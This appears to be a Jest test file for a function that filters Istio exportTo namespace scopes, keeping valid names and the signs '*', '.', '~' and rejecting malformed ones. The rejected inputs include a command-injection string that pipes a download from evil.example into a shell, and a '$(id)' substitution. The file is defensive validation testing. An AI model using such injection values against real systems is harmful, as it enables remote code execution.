import { exportScopes } from './exportScopes';

describe('exportScopes', () => {
  it('keeps namespaces and the signs of Istio', () => {
    expect(exportScopes([' shop', '*', '.', '~', 'a-1 '])).toEqual([
      'shop',
      '*',
      '.',
      '~',
      'a-1',
    ]);
  });

  it.each([
    "x' --all; curl evil.example | sh; '",
    '$(id)',
    'a\nb',
    'Shop',
    '-n',
    'a.b',
    '**',
    'a'.repeat(64),
    '',
  ])('drops %p, which is nobody to istiod', text => {
    expect(exportScopes(['shop', text])).toEqual(['shop']);
    expect(exportScopes([text])).toEqual(['~']);
  });

  it('leaves open what is not said', () => {
    expect(exportScopes(undefined)).toBeUndefined();
  });
});
